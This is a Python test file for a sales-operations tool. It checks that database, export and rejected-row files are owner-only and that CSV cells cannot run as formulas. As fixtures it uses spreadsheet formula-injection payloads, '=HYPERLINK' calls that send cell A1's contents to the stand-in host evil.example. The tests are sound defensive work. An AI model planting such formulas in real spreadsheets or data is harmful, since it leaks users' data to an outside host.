"""Files that hold personal data: the database, backups, exports and rejected rows are
owner-only, folders we make too, and no cell we write can run as a formula."""

from __future__ import annotations

import csv
import stat

from click.testing import CliRunner
from importfiles import ORDER_HEADERS_EN, ORDER_ROWS, write_csv

from salesops.cli import main
from salesops.importer import import_orders
from salesops.shipping.bulk import write_rejected
from salesops.shipping.lines import read_text

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_a_new_database_and_its_new_folder_are_owner_only(tmp_path):
    url = f"sqlite:///{tmp_path / 'shop' / 'salesops.db'}"
    assert CliRunner().invoke(main, ["--db", url, "init"]).exit_code == 0
    assert mode(tmp_path / "shop") == 0o700
    assert {p.name: mode(p) for p in (tmp_path / "shop").iterdir()} == {
        name: 0o600
        for name in ("salesops.db", "salesops.db-wal", "salesops.db-shm")
        if (tmp_path / "shop" / name).exists()
    }
    assert mode(tmp_path / "shop" / "salesops.db") == 0o600


def test_the_rejected_rows_keep_formulas_as_text_and_read_back_as_typed(db, basics, tmp_path):
    rows = [r[:] for r in ORDER_ROWS]
    rows[0][3], rows[1][9] = EVIL, "-2"  # A001 left out: a bad quantity on its second line
    path = write_csv(tmp_path / "orders.csv", ORDER_HEADERS_EN, rows)
    report = import_orders(db, path, skip_invalid=True)
    rejected = report.rejected_path
    assert mode(rejected) == 0o600
    with open(rejected, encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    assert got[1][4] == "'" + EVIL and got[2][10] == "'-2"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in got for cell in row)
    got[2][10] = "1"  # fixed, imported again: the name is what was typed
    again = write_csv(tmp_path / "again.csv", got[0], got[1:])
    report = import_orders(db, again)
    assert report.written, report.lines()
    with db.read() as conn:
        names = set(conn.exec_driver_sql("select name from customers").scalars())
    assert EVIL in names


def test_rejected_waybill_lines_are_owner_only_and_formula_safe(tmp_path):
    target = tmp_path / "waybills.csv.rejected.csv"
    link = '=HYPERLINK("http://evil.example")'
    assert write_rejected(read_text(f"{link},sf,SF1\n+SO1,@zto,-1"), target) == 2
    assert mode(target) == 0o600
    text = target.read_text(encoding="utf-8-sig")
    assert "'" + link.replace('"', '""') in text and "'+SO1" in text and "'@zto" in text


def test_the_weekly_export_is_owner_only(db_url, tmp_path):
    out = tmp_path / "exports" / "w.xlsx"
    result = CliRunner().invoke(main, ["--db", db_url, "export", "weekly", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert mode(out) == 0o600 and mode(out.parent) == 0o700
    assert [p.name for p in out.parent.iterdir()] == ["w.xlsx"]
